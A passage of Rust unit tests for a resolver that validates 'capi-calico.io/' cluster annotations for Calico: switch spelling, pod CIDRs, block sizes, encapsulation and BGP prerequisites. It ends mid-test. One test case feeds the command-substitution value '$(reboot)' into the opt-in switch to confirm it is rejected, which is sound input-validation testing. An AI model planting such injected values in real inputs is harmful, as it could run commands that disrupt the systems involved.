//! Tests of [`resolve`]: the opt-in switch, every key's rules as seen through `resolve`, and the combinations.

use std::collections::BTreeMap;

use base64::Engine as _;
use proptest::prelude::*;

use super::*;

const RR: &str = "apiVersion: projectcalico.org/v3
kind: BGPPeer
metadata:
  name: rr1
spec:
  peerIP: 172.16.20.1
  asNumber: 65100
";

fn rr_b64(text: &str) -> String {
    base64::engine::general_purpose::STANDARD.encode(text)
}

fn annotations(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
    pairs
        .iter()
        .map(|(k, v)| (format!("{PREFIX}{k}"), (*v).to_string()))
        .collect()
}

fn opted_in(pairs: &[(&str, &str)]) -> BTreeMap<String, String> {
    let mut all = annotations(pairs);
    all.entry(format!("{PREFIX}CUSTOM_CALICO_DEPLOYMENT"))
        .or_insert_with(|| "true".to_string());
    all
}

fn network(blocks: &[&str]) -> ClusterNetwork {
    ClusterNetwork {
        pod_cidrs: blocks
            .iter()
            .map(|b| b.parse().expect("test cidr"))
            .collect(),
    }
}

fn settings(pairs: &[(&str, &str)], net: Option<&ClusterNetwork>) -> (Settings, Vec<String>) {
    match resolve(&opted_in(pairs), net) {
        Resolution::OptedIn { settings, warnings } => (*settings, warnings),
        other => panic!("expected OptedIn for {pairs:?}, got {other:#?}"),
    }
}

fn problems(pairs: &[(&str, &str)], net: Option<&ClusterNetwork>) -> Vec<Problem> {
    match resolve(&opted_in(pairs), net) {
        Resolution::Invalid { problems } => problems,
        other => panic!("expected Invalid for {pairs:?}, got {other:#?}"),
    }
}

fn rules_of(problems: &[Problem]) -> Vec<&'static str> {
    problems.iter().map(|p| p.rule).collect()
}

// ------------------------------------------------------------------------------------------------------------
// The switch

#[test]
fn not_opted_in_table() {
    let cases: &[(&[(&str, &str)], usize)] = &[
        (&[], 0),
        (&[("CUSTOM_CALICO_DEPLOYMENT", "false")], 0),
        (&[("CALICO_BLOCK_SIZE", "19")], 1),
        (
            &[
                ("CUSTOM_CALICO_DEPLOYMENT", "false"),
                ("CALICO_BLOCKSIZE", "nonsense"),
                ("A", "1"),
                ("B", "2"),
            ],
            1,
        ),
    ];
    for (pairs, warnings_len) in cases {
        let mut all = annotations(pairs);
        all.insert("other.io/thing".into(), "x".into());
        match resolve(&all, None) {
            Resolution::NotOptedIn { warnings } => {
                assert_eq!(warnings.len(), *warnings_len, "{pairs:?}");
                for w in &warnings {
                    assert!(
                        w.contains("CUSTOM_CALICO_DEPLOYMENT is not \"true\""),
                        "{w}"
                    );
                    assert!(w.chars().count() < 120, "{w}");
                }
            }
            other => panic!("{pairs:?}: {other:#?}"),
        }
    }
    let all = annotations(&[
        ("CUSTOM_CALICO_DEPLOYMENT", "false"),
        ("CALICO_BLOCK_SIZE", "26"),
        ("X", "1"),
        ("Y", "1"),
    ]);
    let Resolution::NotOptedIn { warnings } = resolve(&all, None) else {
        panic!("not opted in")
    };
    assert_eq!(
        warnings,
        vec![
            "capi-calico.io/ annotations ignored, CUSTOM_CALICO_DEPLOYMENT is not \"true\": CALICO_BLOCK_SIZE +2 more"
        ]
    );
}

#[test]
fn invalid_switch_table() {
    let cases: &[(&str, Option<&str>)] = &[
        ("True", Some("true")),
        ("TRUE", Some("true")),
        ("yes", Some("true")),
        ("1", Some("true")),
        ("False", Some("false")),
        ("no", Some("false")),
        ("", None),
        ("$(reboot)", None),
    ];
    for (value, suggestion) in cases {
        let all = annotations(&[
            ("CUSTOM_CALICO_DEPLOYMENT", value),
            ("CALICO_BLOCK_SIZE", "19"),
        ]);
        let Resolution::Invalid { problems } = resolve(&all, None) else {
            panic!("{value}")
        };
        assert_eq!(
            problems.len(),
            1,
            "only the switch is reported: {problems:#?}"
        );
        assert_eq!(problems[0].rule, rules::OPT_IN_INVALID);
        assert_eq!(problems[0].key, "capi-calico.io/CUSTOM_CALICO_DEPLOYMENT");
        if let Some(s) = suggestion {
            assert!(
                problems[0]
                    .message
                    .contains(&format!("did you mean \"{s}\"?")),
                "{}",
                problems[0]
            );
        }
    }
}

/// Thousands of mistakes within every size limit (one BGPPeer with many unknown keys) give a bounded denial: the
/// first problems, then one that counts the rest.
#[test]
fn problems_beyond_the_listed_maximum_are_counted_not_listed() {
    let keys: String = (0..3000).map(|i| format!("  k{i}: 1\n")).collect();
    let peer = format!(
        "apiVersion: projectcalico.org/v3\nkind: BGPPeer\nmetadata:\n  name: rr-1\nspec:\n  peerIP: 192.0.2.10\n  \
         asNumber: 64513\n{keys}"
    );
    let rr = rr_b64(&peer);
    let got = problems(&[("CALICO_ROUTE_REFLECTORS", &rr)], None);
    assert_eq!(got.len(), problem::MAX_LISTED_PROBLEMS);
    let last = got.last().expect("a problem");
    assert_eq!(last.rule, rules::MORE_PROBLEMS);
    assert_eq!(last.key, format!("{PREFIX}CALICO_ROUTE_REFLECTORS"));
    assert!(last.message.starts_with("and "), "{}", last.message);
    let omitted: usize = last.message["and ".len()..]
        .split(' ')
        .next()
        .and_then(|n| n.parse().ok())
        .expect("a count");
    assert!(omitted >= 3000 - problem::MAX_LISTED_PROBLEMS, "{omitted}");
    let text = render_problems(&got);
    assert!(
        text.starts_with(&format!(
            "{} problems with the capi-calico.io annotations (the first {} are listed):",
            omitted + problem::MAX_LISTED_PROBLEMS - 1,
            problem::MAX_LISTED_PROBLEMS - 1
        )),
        "{}",
        &text[..200]
    );
    assert!(
        text.len() < 16 * 1024,
        "{} bytes:\n{}",
        text.len(),
        &text[..2000]
    );
    // At or below the maximum, nothing is folded.
    let few = problems(
        &[("CALICO_BLOCK_SIZE", "19"), ("CALICO_BGP_OPTION", "on")],
        None,
    );
    assert!(few.iter().all(|p| p.rule != rules::MORE_PROBLEMS));
}

/// The API server accepts `Capi-Calico.io/...` keys (it validates annotation keys lower-cased). Such a key is never
/// read as a setting, and never silently: a warning when not opted in, a problem when opted in.
#[test]
fn a_prefix_in_another_case_is_reported_not_read() {
    let mut off = BTreeMap::new();
    off.insert(
        "Capi-Calico.io/CALICO_BLOCK_SIZE".to_string(),
        "26".to_string(),
    );
    assert!(!has_settings(&off));
    match resolve(&off, None) {
        Resolution::NotOptedIn { warnings } => {
            assert_eq!(warnings.len(), 1, "{warnings:?}");
            assert!(
                warnings[0].starts_with("Capi-Calico.io/CALICO_BLOCK_SIZE is not read"),
                "{warnings:?}"
            );
            assert!(warnings[0].chars().count() < 120, "{warnings:?}");
        }
        other => panic!("expected NotOptedIn, got {other:?}"),
    }
    let mut on = opted_in(&[]);
    on.insert(
        "CAPI-CALICO.IO/CALICO_BLOCK_SIZE".to_string(),
        "26".to_string(),
    );
    match resolve(&on, None) {
        Resolution::Invalid { problems } => {
            assert_eq!(rules_of(&problems), [rules::UNKNOWN_KEY], "{problems:?}");
            assert_eq!(problems[0].key, "CAPI-CALICO.IO/CALICO_BLOCK_SIZE");
            assert!(
                problems[0].message.contains("in lower case"),
                "{problems:?}"
            );
            assert!(
                problems[0]
                    .message
                    .ends_with("write capi-calico.io/CALICO_BLOCK_SIZE"),
                "{problems:?}"
            );
        }
        other => panic!("expected Invalid, got {other:?}"),
    }
    // Other problems are still all listed.
    on.insert(format!("{PREFIX}CALICO_BLOCK_SIZE"), "19".to_string());
    match resolve(&on, None) {
        Resolution::Invalid { problems } => assert_eq!(problems.len(), 2, "{problems:?}"),
        other => panic!("expected Invalid, got {other:?}"),
    }
    for key in [
        "capi-calico.iox/A",
        "capi-calico/A",
        "capi-calico.i",
        "xcapi-calico.io/A",
        "é",
    ] {
        assert!(!is_prefix_in_other_case(key), "{key}");
    }
}

/// A near miss of the master switch set to "true" is refused with the right name; other values of it, and other
/// keys, only get the not-opted-in warning.
#[test]
fn a_misspelt_master_switch_set_to_true_is_refused() {
    for key in [
        "CUSTOM_CALICO_DEPLOYMNT",
        "custom_calico_deployment",
        "CUSTOM_CALICO_DEPLOY",
    ] {
        let p = match resolve(
            &annotations(&[(key, "true"), ("CALICO_BLOCK_SIZE", "26")]),
            None,
        ) {
            Resolution::Invalid { problems } => problems,
            other => panic!("{key}: expected Invalid, got {other:?}"),
        };
        assert_eq!(rules_of(&p), [rules::UNKNOWN_KEY], "{p:?}");
        assert_eq!(p[0].key, format!("{PREFIX}{key}"));
        assert!(
            p[0].message.contains(
                "did you mean \"capi-calico.io/CUSTOM_CALICO_DEPLOYMENT\", the master switch?"
            ),
            "{}",
            p[0]
        );
    }
    // The prefix in another case: never read, so the cluster would get no Calico either.
    for key in [
        "Capi-Calico.io/CUSTOM_CALICO_DEPLOYMENT",
        "CAPI-CALICO.IO/custom_calico_deploymnt",
    ] {
        let mut all = annotations(&[("CALICO_BLOCK_SIZE", "26")]);
        all.insert(key.to_string(), "true".to_string());
        let p = match resolve(&all, None) {
            Resolution::Invalid { problems } => problems,
            other => panic!("{key}: expected Invalid, got {other:?}"),
        };
        assert_eq!(rules_of(&p), [rules::UNKNOWN_KEY], "{p:?}");
        assert_eq!(p[0].key, key);
        assert!(
            p[0].message
                .contains("the prefix is capi-calico.io/, in lower case")
                && p[0].message.contains(
                    "did you mean \"capi-calico.io/CUSTOM_CALICO_DEPLOYMENT\", the master switch?"
                ),
            "{}",
            p[0]
        );
        // "false", or the real switch beside it, leaves the not-opted-in warning.
        all.insert(key.to_string(), "false".to_string());
        assert!(matches!(resolve(&all, None), Resolution::NotOptedIn { .. }));
    }
    for pairs in [
        vec![("CUSTOM_CALICO_DEPLOYMNT", "false")],
        vec![("CALICO_VERSION", "true")],
        vec![
            ("CUSTOM_CALICO_DEPLOYMNT", "true"),
            ("CUSTOM_CALICO_DEPLOYMENT", "false"),
        ],
    ] {
        assert!(
            matches!(
                resolve(&annotations(&pairs), None),
                Resolution::NotOptedIn { .. }
            ),
            "{pairs:?}"
        );
    }
}

#[test]
fn has_settings_only_looks_at_the_prefix() {
    assert!(!has_settings(&BTreeMap::new()));
    assert!(!has_settings(
        &[("capi-calico.io-x/A".to_string(), String::new())].into()
    ));
    assert!(has_settings(&annotations(&[("ANY", "")])));
}

// ------------------------------------------------------------------------------------------------------------
// Defaults

#[test]
fn defaults() {
    let net = network(&["100.96.0.0/11"]);
    let (s, warnings) = settings(&[], Some(&net));
    assert!(warnings.is_empty(), "{warnings:?}");
    assert_eq!(s.bgp, BgpOption::Disabled);
    assert_eq!(
        s.pod_pool,
        Some(PodPool {
            cidr: "100.96.0.0/11".parse().expect("cidr"),
            block_size: 28
        })
    );
    assert_eq!(s.encapsulation, Encapsulation::VxlanCrossSubnet);
    assert_eq!(s.nat_outgoing, NatOutgoing::Enabled);
    assert!(!s.install_calicoctl);
    assert!(!s.configure_bgp);
    assert_eq!(s.as_number, None);
    assert!(s.route_reflectors.is_empty());
    assert_eq!(s.calico_version.to_string(), "v3.31.7");
    assert_eq!(s.calicoctl.url_template, values::DEFAULT_URL_TEMPLATE);
    assert_eq!(
        s.calicoctl.sha256_amd64,
        Some(Sha256Hex(
            "1b91928adc39861ba5e04d8d15c4ce489731269b07a8e7444c0fdf677f041113".into()
        ))
    );
    assert_eq!(
        s.calicoctl.sha256_arm64,
        Some(Sha256Hex(
            "d7adff41398cb77b97451bf238022376382725ff231228f78b3ebc35d9fb9fda".into()
        ))
    );
    // No Cluster known (a KCP or KCT with its own settings): no pool, and none needed.
    assert_eq!(settings(&[], None).0.pod_pool, None);
    // A Cluster without any pod CIDR: admitted (it may have been before this check), and told that its Installation
    // needs a pool.
    for pairs in [vec![], vec![(keys::CALICO_BLOCK_SIZE, "26")]] {
        let (s, warnings) = settings(&pairs, Some(&network(&[])));
        assert_eq!(s.pod_pool, None);
        assert_eq!(
            warnings,
            vec![
                "capi-calico: no pod CIDR: Calico is not delivered until spec.clusterNetwork.pods.cidrBlocks is set"
            ],
            "{pairs:?}"
        );
    }
    // CALICO_POD_CIDR on a Cluster without pod cidrBlocks: kubeadm then has no podSubnet and tigera-operator refuses
    // the pool; warned, in one `Warning:` line even with the longest CIDR.
    for cidr in [
        "100.96.0.0/11",
        "ffff:ffff:ffff:ffff:ffff:ffff:ffff:ff00/120",
        "ffff:ffff:ffff:ffff:ffff:ffff:ffff:ff80/121",
    ] {
        let (s, warnings) = settings(&[(keys::CALICO_POD_CIDR, cidr)], Some(&network(&[])));
        assert!(s.pod_pool.is_some());
        assert_eq!(
            warnings,
            vec![format!(
                "capi-calico: add {cidr} to spec.clusterNetwork.pods.cidrBlocks (the pool needs it)"
            )]
        );
        assert!(warnings[0].chars().count() < 120, "{warnings:?}");
    }
    // With cidrBlocks that hold it: no warning.
    let (_, warnings) = settings(
        &[(keys::CALICO_POD_CIDR, "100.96.0.0/12")],
        Some(&network(&["100.96.0.0/11"])),
    );
    assert_eq!(warnings, Vec::<String>::new());
}

// ------------------------------------------------------------------------------------------------------------
// Keys

#[test]
fn unknown_keys_table() {
    let cases: &[(&str, Option<&str>)] = &[
        ("CALICO_BLOCKSIZE", Some("CALICO_BLOCK_SIZE")),
        ("calico_pod_cidr", Some("CALICO_POD_CIDR")),
        ("CALICO_BGP_AS_NUMBR", Some("CALICO_BGP_AS_NUMBER")),
        ("CALICOCTL_SHA256_ARM", Some("CALICOCTL_SHA256_ARM64")),
        ("TYPHA_REPLICAS", None),
        ("", None),
    ];
    for (key, suggestion) in cases {
        let p = problems(&[(key, "26")], None);
        assert_eq!(rules_of(&p), vec![rules::UNKNOWN_KEY], "{key}");
        assert_eq!(p[0].key, format!("capi-calico.io/{key}"));
        match suggestion {
            Some(s) => assert!(
                p[0].message
                    .contains(&format!("did you mean \"capi-calico.io/{s}\"?")),
                "{}",
                p[0]
            ),
            None => assert!(p[0].message.contains("known settings are"), "{}", p[0]),
        }
    }
    let p = problems(&[("CALICO_BLOCKSIZE", "26")], None);
    assert_eq!(
        p[0].to_string(),
        "capi-calico.io/CALICO_BLOCKSIZE: \"26\" is not a known setting: did you mean \"capi-calico.io/CALICO_BLOCK_SIZE\"?"
    );
}

#[test]
fn enum_and_bool_suggestions_through_resolve() {
    let cases: &[(&str, &str, &str)] = &[
        ("CALICO_BGP_OPTION", "enabled", "did you mean \"Enabled\"?"),
        (
            "CALICO_NAT_OUTGOING",
            "DISABLED",
            "did you mean \"Disabled\"?",
        ),
        ("CALICO_ENCAPSULATION", "vxlan", "did you mean \"VXLAN\"?"),
        (
            "CALICO_ENCAPSULATION",
            "ipipcrosssubnet",
            "did you mean \"IPIPCrossSubnet\"?",
        ),
        ("INSTALL_CALICOCTL", "True", "did you mean \"true\"?"),
        (
            "CONFIGURE_CALICO_BGP_SETTINGS",
            "no",
            "did you mean \"false\"?",
        ),
    ];
    for (key, value, text) in cases {
        let p = problems(&[(key, value)], None);
        assert_eq!(p.len(), 1, "{p:#?}");
        assert!(p[0].message.contains(text), "{}", p[0]);
        assert_eq!(p[0].value.as_deref(), Some(format!("\"{value}\"").as_str()));
    }
    let p = problems(&[("CALICO_BGP_OPTION", "enabled")], None);
    assert_eq!(
        p[0].to_string(),
        "capi-calico.io/CALICO_BGP_OPTION: \"enabled\" is not valid: did you mean \"Enabled\"? Values are case-sensitive, one of: Enabled, Disabled"
    );
}

// ------------------------------------------------------------------------------------------------------------
// Pool: CIDR, block size, Cluster blocks

#[test]
fn a_dual_stack_cluster_is_told_that_one_family_gets_a_pool() {
    let dual = network(&["10.244.0.0/16", "fd00:10:244::/56"]);
    let (_, warnings) = settings(&[], Some(&dual));
    assert_eq!(
        warnings,
        vec![
            "capi-calico: dual-stack: Calico pool 10.244.0.0/16 only, none for fd00:10:244::/56"
                .to_string()
        ]
    );
    let (_, warnings) = settings(&[("CALICO_BLOCK_SIZE", "122")], Some(&dual));
    assert!(
        warnings[0].contains("pool fd00:10:244::/56 only, none for 10.244.0.0/16"),
        "{warnings:?}"
    );
    let (_, warnings) = settings(&[], Some(&network(&["100.96.0.0/11", "10.0.0.0/16"])));
    assert!(warnings.is_empty(), "{warnings:?}");
}

#[test]
fn pool_table() {
    let v4 = network(&["100.96.0.0/11"]);
    let dual = network(&["10.244.0.0/16", "fd00:10:244::/56"]);
    let v6_first = network(&["fd00:10:244::/56", "10.244.0.0/16"]);
    let none = network(&[]);
    let tiny = network(&["10.0.0.0/30"]);
    type Case<'a> = (
        &'a [(&'a str, &'a str)],
        Option<&'a ClusterNetwork>,
        Result<Option<(&'a str, u8)>, &'a str>,
    );
    let cases: Vec<Case> = vec![
        // Defaults from the Cluster.
        (&[], Some(&v4), Ok(Some(("100.96.0.0/11", 28)))),
        (&[], Some(&dual), Ok(Some(("10.244.0.0/16", 28)))),
        (&[], Some(&v6_first), Ok(Some(("fd00:10:244::/56", 122)))),
        (
            &[("CALICO_BLOCK_SIZE", "26")],
            Some(&dual),
            Ok(Some(("10.244.0.0/16", 26))),
        ),
        (
            &[("CALICO_BLOCK_SIZE", "120")],
            Some(&dual),
            Ok(Some(("fd00:10:244::/56", 120))),
        ),
        (
            &[("CALICO_BLOCK_SIZE", "120")],
            Some(&v4),
            Err(rules::BLOCK_SIZE_FAMILY),
        ),
        // Explicit CIDR inside / outside the Cluster's blocks.
        (
            &[("CALICO_POD_CIDR", "100.96.16.0/20")],
            Some(&v4),
            Ok(Some(("100.96.16.0/20", 28))),
        ),
        (
            &[("CALICO_POD_CIDR", "100.96.0.0/11")],
            Some(&v4),
            Ok(Some(("100.96.0.0/11", 28))),
        ),
        (
            &[("CALICO_POD_CIDR", "172.16.28.0/24")],
            Some(&v4),
            Err(rules::POD_CIDR_OUTSIDE_CLUSTER),
        ),
        (
            &[("CALICO_POD_CIDR", "100.64.0.0/10")],
            Some(&v4),
            Err(rules::POD_CIDR_OUTSIDE_CLUSTER),
        ),
        (
            &[("CALICO_POD_CIDR", "fd00:10:244:1::/64")],
            Some(&dual),
            Ok(Some(("fd00:10:244:1::/64", 122))),
        ),
        (
            &[("CALICO_POD_CIDR", "fd00:10:245::/64")],
            Some(&dual),
            Err(rules::POD_CIDR_OUTSIDE_CLUSTER),
        ),
        (
            &[("CALICO_POD_CIDR", "172.16.28.0/24")],
            None,
            Ok(Some(("172.16.28.0/24", 28))),
        ),
        (
            &[("CALICO_POD_CIDR", "172.16.28.0/24")],
            Some(&none),
            Ok(Some(("172.16.28.0/24", 28))),
        ),
        (
            &[("CALICO_POD_CIDR", "172.16.28.1/24")],
            None,
            Err(rules::POD_CIDR_HOST_BITS),
        ),
        (
            &[("CALICO_POD_CIDR", "169.254.0.0/16")],
            None,
            Err(rules::POD_CIDR_LINK_LOCAL),
        ),
        (
            &[("CALICO_POD_CIDR", "fe80::/64")],
            None,
            Err(rules::POD_CIDR_LINK_LOCAL),
        ),
        (
            &[("CALICO_POD_CIDR", "nonsense")],
            None,
            Err(rules::POD_CIDR_FORMAT),
        ),
        // Block size vs prefix and family.
        (
            &[("CALICO_POD_CIDR", "10.0.0.0/30")],
            None,
            Err(rules::BLOCK_SIZE_PREFIX),
        ),
        (
            &[
                ("CALICO_POD_CIDR", "10.0.0.0/26"),
                ("CALICO_BLOCK_SIZE", "26"),
            ],
            None,
            Ok(Some(("10.0.0.0/26", 26))),
        ),
        (
            &[
                ("CALICO_POD_CIDR", "10.0.0.0/24"),
                ("CALICO_BLOCK_SIZE", "20"),
            ],
            None,
            Err(rules::BLOCK_SIZE_PREFIX),
        ),
        (
            &[
                ("CALICO_POD_CIDR", "10.0.0.0/16"),
                ("CALICO_BLOCK_SIZE", "122"),
            ],
            None,
            Err(rules::BLOCK_SIZE_RANGE),
        ),
        (
            &[
                ("CALICO_POD_CIDR", "fd00::/48"),
                ("CALICO_BLOCK_SIZE", "26"),
            ],
            None,
            Err(rules::BLOCK_SIZE_RANGE),
        ),
        (
            &[
                ("CALICO_POD_CIDR", "fd00::/48"),
                ("CALICO_BLOCK_SIZE", "116"),
            ],
            None,
            Ok(Some(("fd00::/48", 116))),
        ),
        (
            &[("CALICO_BLOCK_SIZE", "19")],
            Some(&v4),
            Err(rules::BLOCK_SIZE_RANGE),
        ),
        (
            &[("CALICO_BLOCK_SIZE", "+26")],
            Some(&v4),
            Err(rules::BLOCK_SIZE_FORMAT),
        ),
        (&[], Some(&tiny), Err(rules::BLOCK_SIZE_PREFIX)),
        // Block size with no pool: accepted, warned, no pool.
        (&[("CALICO_BLOCK_SIZE", "26")], None, Ok(None)),
    ];
    for (pairs, net, want) in cases {
        match want {
            Ok(pool) => {
                let (s, _) = settings(pairs, net);
                let got = s.pod_pool.map(|p| (p.cidr.to_string(), p.block_size));
                assert_eq!(
                    got,
                    pool.map(|(c, b)| (c.to_string(), b)),
                    "{pairs:?} {net:?}"
                );
            }
            Err(rule) => {
                let p = problems(pairs, net);
                assert_eq!(rules_of(&p), vec![rule], "{pairs:?} {net:?}: {p:#?}");
            }
        }
    }
}

#[test]
fn pool_messages() {
    let v4 = network(&["100.96.0.0/11"]);
    let p = problems(&[("CALICO_BLOCK_SIZE", "19")], Some(&v4));
    assert_eq!(
        p[0].to_string(),
        "capi-calico.io/CALICO_BLOCK_SIZE: \"19\" is out of range: a block size must be between 20 and 32 for IPv4 (default 28) or between 116 and 128 for IPv6 (default 122)"
    );
    let p = problems(
        &[
            ("CALICO_POD_CIDR", "10.0.0.0/16"),
            ("CALICO_BLOCK_SIZE", "122"),
        ],
        None,
    );
    assert!(
        p[0].message.starts_with(
            "is out of range: an IPv4 block size must be between 20 and 32 (default 28)"
        ),
        "{}",
        p[0]
    );
    let p = problems(&[("CALICO_POD_CIDR", "172.16.28.0/24")], Some(&v4));
    assert!(
        p[0].message.contains("pod cidrBlocks (100.96.0.0/11)"),
        "{}",
        p[0]
    );
    let p = problems(&[("CALICO_POD_CIDR", "10.1.2.3/16")], None);
    assert!(
        p[0].message.contains("did you mean 10.1.0.0/16?"),
        "{}",
        p[0]
    );
    let p = problems(&[], Some(&network(&["10.0.0.0/30"])));
    assert!(
        p[0].to_string()
            .starts_with("capi-calico.io/CALICO_BLOCK_SIZE (not set, default 28) is smaller"),
        "{}",
        p[0]
    );
    let (_, warnings) = settings(&[("CALICO_BLOCK_SIZE", "26")], None);
    assert_eq!(warnings.len(), 1);
    assert_eq!(
        warnings,
        [
            "capi-calico.io/CALICO_BLOCK_SIZE 26 is not used here: the IP pool takes the Cluster's settings"
        ]
    );
}

// ------------------------------------------------------------------------------------------------------------
// Encapsulation and BGP

#[test]
fn encapsulation_table() {
    let v6 = network(&["fd00:10:244::/56"]);
    type Case<'a> = (
        &'a [(&'a str, &'a str)],
        Option<&'a ClusterNetwork>,
        &'a [&'a str],
    );
    let cases: &[Case] = &[
        (&[("CALICO_ENCAPSULATION", "VXLAN")], None, &[]),
        (
            &[("CALICO_ENCAPSULATION", "VXLANCrossSubnet")],
            Some(&v6),
            &[],
        ),
        (
            &[("CALICO_ENCAPSULATION", "IPIP")],
            None,
            &[rules::ENCAPSULATION_NEEDS_BGP],
        ),
        (
            &[
                ("CALICO_ENCAPSULATION", "IPIPCrossSubnet"),
                ("CALICO_BGP_OPTION", "Disabled"),
            ],
            None,
            &[rules::ENCAPSULATION_NEEDS_BGP],
        ),
        (
            &[("CALICO_ENCAPSULATION", "None")],
            None,
            &[rules::ENCAPSULATION_NEEDS_BGP],
        ),
        (
            &[
                ("CALICO_ENCAPSULATION", "None"),
                ("CALICO_BGP_OPTION", "Enabled"),
            ],
            None,
            &[],
        ),
        (
            &[
                ("CALICO_ENCAPSULATION", "IPIP"),
                ("CALICO_BGP_OPTION", "Enabled"),
            ],
            None,
            &[],
        ),
        (
            &[
                ("CALICO_ENCAPSULATION", "IPIP"),
                ("CALICO_BGP_OPTION", "Enabled"),
            ],
            Some(&v6),
            &[rules::ENCAPSULATION_IPIP_IPV6],
        ),
        (
            &[("CALICO_ENCAPSULATION", "IPIPCrossSubnet")],
            Some(&v6),
            &[
                rules::ENCAPSULATION_NEEDS_BGP,
                rules::ENCAPSULATION_IPIP_IPV6,
            ],
        ),
        // A wrong block size does not hide the encapsulation the pool cannot have: both in one denial.
        (
            &[
                ("CALICO_POD_CIDR", "fd00:10:244::/56"),
                ("CALICO_BLOCK_SIZE", "26"),
                ("CALICO_ENCAPSULATION", "IPIP"),
                ("CALICO_BGP_OPTION", "Enabled"),
            ],
            Some(&v6),
            &[rules::ENCAPSULATION_IPIP_IPV6, rules::BLOCK_SIZE_RANGE],
        ),
        (
            &[
                ("CALICO_ENCAPSULATION", "None"),
                ("CALICO_BGP_OPTION", "Enabled"),
            ],
            Some(&v6),
            &[],
        ),
        // An invalid BGP option does not add a second complaint.
        (
            &[
                ("CALICO_ENCAPSULATION", "IPIP"),
                ("CALICO_BGP_OPTION", "on"),
            ],
            None,
            &[rules::ENUM_INVALID],
        ),
    ];
    for (pairs, net, want) in cases {
        match resolve(&opted_in(pairs), *net) {
            Resolution::OptedIn { .. } => assert!(want.is_empty(), "{pairs:?}: expected {want:?}"),
            Resolution::Invalid { problems } => assert_eq!(rules_of(&problems), *want, "{pairs:?}"),
            other => panic!("{other:#?}"),
        }
    }
    let p = problems(&[("CALICO_ENCAPSULATION", "IPIP")], None);
    assert!(
        p[0].message
            .contains("needs capi-calico.io/CALICO_BGP_OPTION=Enabled"),
        "{}",
        p[0]
    );
    assert!(p[0].message.contains("Disabled by default"), "{}", p[0]);
}

#[test]
fn as_number_through_resolve() {
    let cases: &[(&str, Result<u32, &str>)] = &[
        ("65100", Ok(65_100)),
        ("1.10", Ok(65_546)),
        ("2147483647", Ok(2_147_483_647)),
        ("0", Err(rules::AS_NUMBER_RESERVED)),
        ("2147483648", Err(rules::AS_NUMBER_RANGE)),
        ("65536.1", Err(rules::AS_NUMBER_RANGE)),
        ("AS65100", Err(rules::AS_NUMBER_FORMAT)),
    ];
    for (raw, want) in cases {
        let pairs = [("CALICO_BGP_AS_NUMBER", *raw)];
        match want {
            Ok(n) => assert_eq!(settings(&pairs, None).0.as_number, Some(*n), "{raw}"),
            Err(rule) => assert_eq!(rules_of(&problems(&pairs, None)), vec![*rule], "{raw}"),
        }
    }
    let p = problems(&[("CALICO_BGP_AS_NUMBER", "0")], None);
    assert!(
        p[0].message
            .contains("private AS number from 64512 to 65534"),
        "{}",
        p[0]
    );
    // Set without CONFIGURE_CALICO_BGP_SETTINGS: accepted with a warning.
    let (_, warnings) = settings(&[("CALICO_BGP_AS_NUMBER", "65100")], None);
    assert!(
        warnings
            .iter()
            .any(|w| w.contains("CALICO_BGP_AS_NUMBER is not applied")),
        "{warnings:?}"
    );
}

#[test]
fn bgp_settings_prerequisites_table() {
    let rr = rr_b64(RR);
    let full: Vec<(&str, &str)> = vec![
        ("CONFIGURE_CALICO_BGP_SETTINGS", "true"),
        ("INSTALL_CALICOCTL", "true"),
        ("CALICO_BGP_OPTION", "Enabled"),
        ("CALICO_BGP_AS_NUMBER", "65100"),
        ("CALICO_ROUTE_REFLECTORS", rr.as_str()),
    ];
    let (s, warnings) = settings(&full, None);
    assert!(s.configure_bgp && s.install_calicoctl);
    assert_eq!(s.bgp, BgpOption::Enabled);
    assert_eq!(s.as_number, Some(65_100));
    assert_eq!(s.route_reflectors.len(), 1);
    assert_eq!(s.route_reflectors[0].name, "rr1");
    assert!(warnings.is_empty(), "{warnings:?}");

    // Drop or break each prerequisite in turn: exactly that one is named.
    let cases: &[(&str, Option<&str>, &str)] = &[
        (
            "INSTALL_CALICOCTL",
            None,
            "capi-calico.io/INSTALL_CALICOCTL is not set",
        ),
        (
            "INSTALL_CALICOCTL",
            Some("false"),
            "capi-calico.io/INSTALL_CALICOCTL: \"false\" must be \"true\"",
        ),
        (
            "CALICO_BGP_OPTION",
            None,
            "capi-calico.io/CALICO_BGP_OPTION is not set",
        ),
        (
            "CALICO_BGP_OPTION",
            Some("Disabled"),
            "capi-calico.io/CALICO_BGP_OPTION: \"Disabled\" must be \"Enabled\"",
        ),
        (
            "CALICO_BGP_AS_NUMBER",
            None,
            "capi-calico.io/CALICO_BGP_AS_NUMBER is not set",
        ),
        (
            "CALICO_ROUTE_REFLECTORS",
            None,
            "capi-calico.io/CALICO_ROUTE_REFLECTORS is not set or empty",
        ),
        (
            "CALICO_ROUTE_REFLECTORS",
            Some(""),
            "capi-calico.io/CALICO_ROUTE_REFLECTORS is not set or empty",
        ),
    ];
    for (key, replacement, text) in cases {
        let pairs: Vec<(&str, &str)> = full
            .iter()
            .filter_map(|(k, v)| {
                if k == key {
                    replacement.map(|r| (*k, r))
                } else {
                    Some((*k, *v))
                }
            })
            .collect();
        let p = problems(&pairs, None);
        assert_eq!(
            rules_of(&p),
            vec![rules::BGP_SETTINGS_PREREQUISITE],
            "{key}: {p:#?}"
        );
        assert!(p[0].to_string().starts_with(text), "{}", p[0]);
        assert!(
            p[0].message
                .contains("CONFIGURE_CALICO_BGP_SETTINGS=true needs"),
            "{}",
            p[0]
        );
    }
    // Everything missing at once: four problems, all named.
    let p = problems(&[("CONFIGURE_CALICO_BGP_SETTINGS", "true")], None);
    let keys: Vec<&str> = p.iter().map(|p| p.key.as_str()).collect();
    assert_eq!(
        keys,
        vec![
            "capi-calico.io/INSTALL_CALICOCTL",
            "capi-calico.io/CALICO_BGP_OPTION",
            "capi-calico.io/CALICO_BGP_AS_NUMBER",
            "capi-calico.io/CALICO_ROUTE_REFLECTORS"
        ]
    );
    // An invalid prerequisite is reported once, as invalid, not also as missing.
    let mut broken = full.clone();
    broken[3] = ("CALICO_BGP_AS_NUMBER", "0");
    assert_eq!(
        rules_of(&problems(&broken, None)),
        vec![rules::AS_NUMBER_RESERVED]
    );
}

#[test]
fn route_reflectors_through_resolve() {
    let design_doc = format!(
        "{RR}---\n{}",
        RR.replace("rr1", "rr2")
            .replace("20.1", "20.2")
            .replace("65100", "0")
    );
    let pairs = [
        ("CALICO_BGP_AS_NUMBER", "65100"),
        ("CALICO_ROUTE_REFLECTORS", &rr_b64(&design_doc)),
    ];
    let p = problems(&pairs, None);
